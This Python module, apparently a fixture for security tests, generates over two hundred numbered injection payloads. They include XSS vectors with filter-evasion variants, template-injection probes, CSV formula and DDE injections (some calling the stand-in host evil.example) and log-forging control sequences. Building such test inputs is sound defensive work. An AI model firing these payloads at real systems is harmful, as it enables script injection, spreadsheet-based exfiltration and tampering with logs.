"""Texts that somebody may write into any field: scripts, templates, formulas, lines for a log; each told by its number.

`{n}` is the payload's number. A script that runs says so by a dialog and by `window.ran`; a template that is evaluated
makes 49 of 7*7 beside its number.
"""

from __future__ import annotations

from itertools import product
from typing import NamedTuple


class Payload(NamedTuple):
    family: str
    text: str


RUN = ("alert({n})", "window.ran={n}", "top[&quot;al&quot;+&quot;ert&quot;]({n})", "fetch(`/worklist`),alert`{n}`")

_ELEMENTS = (
    "<script>{run}</script>", "<SCRIPT SRC=data:,{run}></SCRIPT>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src=x onerror={run}>", "<svg onload={run}>", "<svg><script>{run}</script></svg>",
    "<body onload={run}>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>", "<a href=javascript:{run} autofocus onfocus={run}>x</a>",
    "<details open ontoggle={run}>", "<video><source onerror={run}></video>", "<input autofocus onfocus={run}>",
    "<math><mi//xlink:href=\"javascript:{run}\">", "<object data=javascript:{run}>", "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;javascript:{run}'>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example'</style>",
    "<div hx-get=/signout hx-trigger=load hx-on::load={run}>x</div>", "<div style=background:url(javascript:{run})>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<!--><img src=x onerror={run}>-->", "<![CDATA[<img src=x onerror={run}>]]>",
    "<marquee onstart={run}>x</marquee>",
)  # fmt: skip
_BREAKING_OUT = (
    '"><img src=x onerror={run}>', "'><img src=x onerror={run}>", '" autofocus onfocus={run} x="',
    "' autofocus onfocus={run} x='", "</title><script>{run}</script>", "</textarea><script>{run}</script>",
    "</option></select><img src=x onerror={run}>", "--></style></script><script>{run}</script>", "`-{run}-`",
    "';{run};//", '";{run};//', "\\\";{run};//", "javascript:{run}", "data:text/html,<script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;img src=x onerror={run}&#62;", "%3Cscript%3E{run}%3C/script%3E",
    "\u003cscript\u003e{run}\u003c/script\u003e", "＜script＞{run}＜/script＞", "<\u200bscript>{run}</script>",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% print 7*7 %}", "{{'7'*7}}", "{{config}}", "{{self.__init__}}",
    "@(7*7)", "[[7*7]]",
    "{7*7}", "$(expr 7 \\* 7)", "{{request.state.nonce}}", "{{ cycler.__init__.__globals__ }}",
    "%(name)s %s {0} {name}",
)  # fmt: skip
_FORMULAS = (
    "=7*7", "+7*7", "-7+7*8", "@SUM(7*7)", "\t=7*7", "=HYPERLINK(\"//evil.example\";\"x\")", "=cmd|' /C calc'!A0",
    "＝7*7", " =7*7",
    "\"=7*7", "=WEBSERVICE(\"//evil.example\")", "=IMPORTXML(\"//evil.example\";\"a\")", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
_LINES = (
    "x\r\n2026-11-24 [error] forged", "x\n{\"level\":\"critical\",\"event\":\"forged\"}", "x\u2028forged",
    "x\u2029forged", "x\x85forged",
    "x\x0bforged", "x\x0cforged", "\x1b[2J\x1b[31mforged", "\x1b]0;forged\x07", "x\x08\x08\x08forged",
    "\u202eforged\u202c", "\u2066forged\u2069",
)  # fmt: skip


def payloads() -> list[Payload]:
    """More than two hundred, none like another."""
    scripts = [each.replace("{run}", run) for each, run in product(_ELEMENTS, RUN)]
    scripts += [each.replace("{run}", run) for each, run in product(_BREAKING_OUT, RUN[:3])]
    kinds = {"script": scripts, "template": _TEMPLATES, "formula": _FORMULAS, "line": _LINES}
    made = [(family, text) for family, texts in kinds.items() for text in texts]
    return [Payload(family, _numbered(family, text, number)) for number, (family, text) in enumerate(made)]


def _numbered(family: str, text: str, number: int) -> str:
    """A formula is one where it begins a cell; a way out of an attribute works wherever it stands."""
    told = f"{text} n{number}n" if family == "formula" else f"n{number}n {text}"
    return told.replace("{n}", str(number))


def plain(text: str) -> str:
    """As one line of text shows it: a page folds white space, and no form keeps control signs."""
    return " ".join("".join(sign for sign in text if sign.isprintable() or sign.isspace()).split())
